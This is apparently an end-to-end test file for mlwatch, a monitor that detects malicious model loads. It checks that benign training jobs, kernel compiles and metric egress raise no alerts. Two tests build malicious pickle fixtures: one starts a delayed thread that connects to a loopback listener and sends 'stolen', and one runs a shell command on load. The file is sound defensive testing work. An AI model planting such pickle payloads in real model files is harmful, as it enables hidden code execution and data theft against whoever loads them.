"""Benign ML noise: what a real training job does after a checkpoint load
must raise nothing. Load a benign torch model, train a few steps, read data
files, compile a kernel with gcc the way torch.compile/Triton do, run an
nvidia-smi stand-in, and talk to a loopback parameter server that is marked
internal while it still holds its checkpoint open (so during its load,
where only the class keeps the connect quiet). Ends with a sentinel so a
silent mlwatch cannot pass. Also the
noise a SOC would drown in: whole-model checkpoints of the user's own
classes, metrics sent out once the load is over, the same file loaded
again.

Threat model: docs/threat-model.md §3 (benign twins).
"""
import json
import os
import shutil
import struct
import subprocess
import time

from harness import (PY, Checks, Scenario, TestFailure, for_loader, get, summary, touching,
                     with_rule)

JOB = r'''
import json, os, socket, subprocess, sys, tempfile
import numpy as np, torch
ckpt = open(sys.argv[1], "rb")  # held open, as an mmap-ing loader does
state = torch.load(ckpt)
model = torch.nn.Linear(4, 2)
model.load_state_dict(state)
opt = torch.optim.SGD(model.parameters(), lr=0.1)
x = torch.from_numpy(np.load(sys.argv[2])).float()
labels = [int(l) for l in open(sys.argv[3]).read().split()]
y = torch.tensor(labels)
for _ in range(3):
    opt.zero_grad()
    loss = torch.nn.functional.cross_entropy(model(x), y)
    loss.backward()
    opt.step()
# the way Triton/inductor build a kernel: gcc on a generated C file, in a cache dir
cache = os.path.join(sys.argv[5], "kernels")
os.makedirs(cache, exist_ok=True)
src = os.path.join(cache, "k.c")
open(src, "w").write("int k(int a) { return a * 2; }\n")
subprocess.run(["gcc", "-O2", "-shared", "-fPIC", src, "-o", os.path.join(cache, "k.so")], check=True)
subprocess.run([sys.argv[4], "--query-gpu=name", "--format=csv"], check=True,
               stdout=subprocess.DEVNULL)
s = socket.create_connection(("127.0.0.1", int(sys.argv[6])))
s.sendall(json.dumps({"step": 3, "loss": float(loss)}).encode())
s.close()
torch.save(model.state_dict(), os.path.join(sys.argv[5], "ckpt.pt"))
ckpt.close()
print("TRAINED")
'''


def test_benign_training_job_raises_nothing():
    tooldir = "/run/mlwatch-e2e-noise-%d" % os.getpid()  # not under /tmp: no exec-from-temp
    with Scenario("noise") as sc:
        try:
            os.makedirs(tooldir, exist_ok=True)
            smi_src = sc.write("smi.c", '#include <stdio.h>\nint main(void) { puts("name\\nFake GPU"); return 0; }\n')
            smi = os.path.join(tooldir, "nvidia-smi")
            subprocess.run(["gcc", "-O2", smi_src, "-o", smi], check=True)
            gen = sc.write("gen.py",
                           "import torch, numpy as np, sys\n"
                           "torch.save(torch.nn.Linear(4, 2).state_dict(), sys.argv[1])\n"
                           "np.save(sys.argv[2], np.random.rand(8, 4))\n")
            model, data = sc.path("model.pt"), sc.path("x.npy")
            subprocess.run(["/usr/bin/python3", gen, model, data], check=True, env=sc.env(),
                           stdout=subprocess.DEVNULL, timeout=120)
            labels = sc.write("labels.txt", "0 1 0 1 1 0 1 0\n")
            work = sc.path("work")
            os.makedirs(work)
            ps = sc.listener()
            sc.start(sentinel=True, extra_args=["-v", "--internal-net", "127.0.0.0/8"])
            job = sc.write("job.py", JOB)
            r = sc._run(["/usr/bin/python3", job, model, data, labels, smi, work, str(ps.port)],
                        180, tag="job")
            if r.rc != 0 or "TRAINED" not in r.out:
                raise TestFailure("training job failed (rc %s): %s" % (r.rc, r.err[-500:]))
            ps.wait(1)
            sc.expect_seen("the job's connect to its parameter server during its load",
                           lambda e: e["pid"] == r.pid and e["kind"] == "connect"
                           and e["port"] == ps.port and e["during_load"])
            sc.liveness_sentinel()
            alerts = sc.stop()
            c = Checks("benign training job")
            mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == r.pid]
            c.true(not mine, "alerts for a benign training job: %s"
                   % [(a["rule"]["id"], (a.get("event") or {}).get("filename")) for a in mine])
            incs = [i for i in sc.mon.incidents if (i.get("loader") or {}).get("pid") == r.pid]
            c.true(not incs, "incidents for a benign training job: %d" % len(incs))
            inv = [i for i in sc.mon.inventory if (i.get("process") or {}).get("pid") == r.pid]
            c.true(inv, "the job's model load is not in the inventory")
            c.done()
        finally:
            shutil.rmtree(tooldir, ignore_errors=True)


COMPILE = r'''
import os, pickle, subprocess, sys
pickle.load(open(sys.argv[1], "rb"))
src = os.path.join(sys.argv[2], "k.c")
open(src, "w").write("int k(int a) { return a * 2; }\n")
subprocess.run(sys.argv[3:] + ["-O2", "-shared", "-fPIC", src, "-o", src[:-2] + ".so"], check=True)
print("COMPILED")
'''

ANY_EXEC = {"version": 1, "rules": [
    {"id": "site-any-exec", "title": "Program run by a process that loaded a model",
     "severity": "low", "tags": ["AML.T0011.000", "T1059"], "match": {"kind": "exec"}}]}


def test_benign_compiler_silent():
    """The built-in allowlist, not luck: under a user rule on any exec, a
    kernel build after a load (gcc, then cc1, as, collect2, ld, as Triton
    and inductor run it) raises nothing, though mlwatch -v received those
    execs from the watched job. The control compiles the same way
    with gcc copied to a name the allowlist does not know: the rule fires
    on that exec, so the process was marked, the rule reaches its execs,
    and only the allowlist keeps the first compile quiet."""
    tools = "/run/mlwatch-e2e-cc-%d" % os.getpid()  # not under /tmp: no exec-from-temp
    with Scenario("compiler") as sc:
        try:
            os.makedirs(tools, exist_ok=True)
            mycc = os.path.join(tools, "mycc")
            shutil.copy(os.path.realpath(shutil.which("gcc", path=sc.env()["PATH"])), mycc)
            # a copied driver finds cc1 and collect2 only when told where
            libexec = subprocess.run(["gcc", "-print-prog-name=cc1"], check=True,
                                     capture_output=True, text=True).stdout.strip()
            model = sc.make_model("pickle", "model.pkl")
            rules = sc.write("rules.json", json.dumps(ANY_EXEC), 0o600)
            job = sc.write("job.py", COMPILE)
            caches = [sc.path("cache-gcc"), sc.path("cache-mycc")]
            for d in caches:
                os.makedirs(d)
            sc.start(sentinel=True, extra_args=["-v", "--rules", rules])
            r = sc._run([PY, job, model, caches[0], "gcc"], 120, tag="job")
            ctl = sc._run([PY, job, model, caches[1], mycc, "-B" + os.path.dirname(libexec) + "/"],
                          120, tag="control")
            for what, res in (("compile", r), ("control compile", ctl)):
                if res.rc != 0 or "COMPILED" not in res.out:
                    raise TestFailure("%s failed (rc %s): %s" % (what, res.rc, res.err[-500:]))
            sc.expect_seen("the job's compiler exec", lambda e: e["loader"] == r.pid
                           and e["kind"] == "exec" and os.path.basename(e["path"]) == "gcc")
            sc.wait_rules(ctl.pid, {"site-any-exec"})
            sc.liveness_sentinel()
            alerts = sc.stop()
            c = Checks("compiler")
            mine = touching(alerts, r.pid)
            c.true(not mine, "a compile after a load raised %s" % summary(mine))
            c.true(not [i for i in sc.mon.incidents if get(i, "loader", "pid") == r.pid],
                   "an incident for a compile after a load")
            hits = with_rule(for_loader(alerts, ctl.pid), "site-any-exec")
            c.true(hits, "control: the rule on any exec did not fire for %s" % mycc)
            c.eq(sorted({get(a, "event", "filename") for a in hits}), [mycc],
                 "control: programs the rule fired on (the compiler's own children are allowed)")
            c.done()
        finally:
            shutil.rmtree(tools, ignore_errors=True)


MYMODELS = r'''
import dataclasses, torch

class Block(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.lin = torch.nn.Linear(4, 4)

class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.blocks = torch.nn.ModuleList([Block(), Block()])
        self.head = torch.nn.Linear(4, 2)

@dataclasses.dataclass
class Config:
    lr: float = 0.1
    layers: int = 2
'''


def test_whole_model_checkpoints_are_not_alerts():
    """torch.save(model) of the user's own classes (a whole model, nested
    modules, a checkpoint dict with a dataclass config): the scan says
    custom-classes on the inventory record, and nothing alerts."""
    with Scenario("whole") as sc:
        sc.write("mymodels.py", MYMODELS)
        gen = sc.write("gen.py",
                       "import sys, torch; sys.path.insert(0, %r)\n"
                       "import mymodels\n"
                       "torch.save(mymodels.Net(), sys.argv[1])\n"
                       "torch.save(mymodels.Block(), sys.argv[2])\n"
                       "torch.save({'model': mymodels.Net(), 'config': mymodels.Config(),"
                       " 'step': 3}, sys.argv[3])\n" % sc.dir)
        files = [sc.path("net.pt"), sc.path("block.pt"), sc.path("ckpt.pt")]
        r = sc._run(["/usr/bin/python3", gen] + files, 120, tag="gen")
        if r.rc != 0:
            raise TestFailure("generator failed: %s" % r.err[-300:])
        sc.start(sentinel=True)
        job = sc.run_script("import sys, torch; sys.path.insert(0, %r)\nimport mymodels\n"
                            "for p in %r:\n    torch.load(p)\nprint('LOADED')\n"
                            % (sc.dir, files)).expect_ok("loader of whole models")
        # the inventory scans and hashes off the hot path: give it time
        end = time.monotonic() + 20
        while time.monotonic() < end and len([i for i in sc.mon.inventory
                                              if (i.get("process") or {}).get("pid") == job.pid]) < 3:
            sc.mon.read()
            time.sleep(0.1)
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks("whole models")
        mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == job.pid]
        c.true(not mine, "alerts for whole-model checkpoints: %s" % [a["rule"]["id"] for a in mine])
        inv = [i for i in sc.mon.inventory if (i.get("process") or {}).get("pid") == job.pid]
        verdicts = sorted(((i.get("model") or {}).get("scan") or {}).get("verdict") or "?" for i in inv)
        c.eq(verdicts, ["custom-classes"] * 3, "scan verdicts on the inventory")
        c.done()


def test_egress_after_the_load_is_not_an_alert():
    """A job that loaded a clean model and then logs metrics to an external
    address (127.0.0.1 under --internal-net 10.0.0.0/8) once the load is
    over raises nothing. A payload thread started during the load that
    connects as late still alerts: it belongs to the load."""
    with Scenario("egress") as sc:
        lst = sc.listener()
        clean = sc.make_model("torch", "clean.pt")
        # exec() runs with a throwaway locals dict: the thread imports its own
        code = ("import threading\n"
                "def late():\n"
                "    import socket, time\n"
                "    time.sleep(1.5)\n"
                "    s = socket.create_connection(('127.0.0.1', %d)); s.sendall(b'stolen'); s.close()\n"
                "threading.Thread(target=late).start()\n" % lst.port)
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        sc.start(sentinel=True, extra_args=["-v"])
        job = sc.run_script(
            "import json, socket, time, torch\n"
            "torch.load(%r)\n"
            "time.sleep(1.5)\n"
            "s = socket.create_connection(('127.0.0.1', %d))\n"
            "s.sendall(json.dumps({'step': 1, 'loss': 0.5}).encode()); s.close()\n"
            % (clean, lst.port)).expect_ok("metrics job")
        sc.expect_seen("the job's metrics connect after its load",
                       lambda e: e["pid"] == job.pid and e["kind"] == "connect"
                       and e["port"] == lst.port and not e["during_load"])
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        if not lst.wait(2, timeout=8):
            raise TestFailure("the metrics job or the payload never connected")
        sc.wait_rules(ld.pid, {"model-loader-external-connect"})
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks("egress")
        mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == job.pid]
        c.true(not mine, "alerts for metrics after a load: %s" % [a["rule"]["id"] for a in mine])
        incs = [i for i in sc.mon.incidents if (i.get("loader") or {}).get("pid") == job.pid]
        c.true(not incs, "an incident for metrics after a load")
        late = [a for a in alerts if (a.get("loader") or {}).get("pid") == ld.pid
                and a["rule"]["id"] == "model-loader-external-connect"]
        c.true(late and all((a.get("event") or {}).get("during_load") is True for a in late),
               "the payload thread's late connect: %s" % late)
        c.done()


def test_rereading_a_data_shard_is_not_a_new_load():
    """A training loop maps its token shard (train.bin: a model's name to the
    sensors, and no format that proves it data) again every step and sends
    metrics to an external address (127.0.0.1 under --internal-net
    10.0.0.0/8) right after each: only the first open is a load, so the
    metrics are no "connect during a load"."""
    with Scenario("shard") as sc:
        lst = sc.listener()
        # token ids, as a tokenizer writes them: fixed bytes, so the static
        # scan sees the same file every run (random bytes sniff as a
        # pickle now and then, a scanner matter this test is not about)
        shard = sc.write("train.bin", struct.pack("<32768H", *[(i * 7919 + 11) % 50257
                                                              for i in range(32768)]))
        sc.start(sentinel=True, extra_args=["-v"])
        job = sc.run_script(
            "import json, socket, time\n"
            "import numpy as np\n"
            "d = np.memmap(%r, dtype=np.uint16, mode='r')\n"
            "time.sleep(1.0)\n"
            "for step in range(5):\n"
            "    d = np.memmap(%r, dtype=np.uint16, mode='r')\n"
            "    s = socket.create_connection(('127.0.0.1', %d))\n"
            "    s.sendall(json.dumps({'step': step, 'tok': int(d[step])}).encode()); s.close()\n"
            "    time.sleep(0.2)\n" % (shard, shard, lst.port)).expect_ok("training loop")
        if not lst.wait(5, timeout=8):
            raise TestFailure("the training loop never sent its metrics")
        sc.expect_seen("the loop's metrics connects after its first open",
                       lambda e: e["pid"] == job.pid and e["kind"] == "connect"
                       and e["port"] == lst.port and not e["during_load"])
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks("shard")
        mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == job.pid]
        c.true(not mine, "alerts for metrics between shard re-reads: %s"
               % [a["rule"]["id"] for a in mine])
        c.done()


def test_same_model_opened_again_is_one_alert():
    """The same malicious file loaded three times by one process, and once by
    another process in between: one model-scan-malicious line and one shell
    line for the first process, the repeats counted on its incident's
    steps. The first process's re-reads of the unchanged file are one load
    to the sensors (one inventory record, one scan step)."""
    with Scenario("again") as sc:
        marker = sc.path("MARK")
        go = sc.path("GO")
        model = sc.make_model("pickle", "model.pkl", system="touch %s" % marker)
        sc.start()
        first = subprocess.Popen(
            ["/usr/bin/python3", "-c",
             "import os, pickle, sys, time\n"
             "pickle.load(open(sys.argv[1], 'rb'))\n"
             "end = time.monotonic() + 30\n"
             "while not os.path.exists(sys.argv[2]) and time.monotonic() < end:\n"
             "    time.sleep(0.05)\n"
             "for _ in range(2):\n"
             "    pickle.load(open(sys.argv[1], 'rb'))\n", model, go],
            cwd=sc.dir, env=sc.env(), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE)
        try:
            sc.expect_file(marker)
            other = sc.run_loader("pickle", model).expect_ok("other loader")
            sc.wait_alerts(lambda al: any(a["rule"]["id"] == "model-scan-malicious" and
                                          (a.get("loader") or {}).get("pid") == other.pid for a in al))
            open(go, "w").close()
            first.wait(60)
        finally:
            if first.poll() is None:
                first.kill()
                first.wait(5)
        if first.returncode != 0:
            raise TestFailure("first loader failed: %s" % first.stderr.read()[-300:])
        time.sleep(1.5)
        alerts = sc.stop()
        c = Checks("repeats")
        mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == first.pid]
        for rule in ("model-scan-malicious", "model-loader-shell"):
            c.eq(len([a for a in mine if a["rule"]["id"] == rule]), 1, "%s lines" % rule)
        incs = [i for i in sc.mon.incidents if (i.get("loader") or {}).get("pid") == first.pid]
        c.eq(len({i.get("incident") for i in incs}), 1, "incidents of the first loader")
        counts = {s.get("rule"): s.get("count") for s in (incs[-1].get("timeline") if incs else [])}
        c.eq(counts.get("model-loader-shell"), 3, "shell step count")
        c.eq(counts.get("model-scan-malicious"), 1, "scan step count (one per inventory record)")
        c.done()
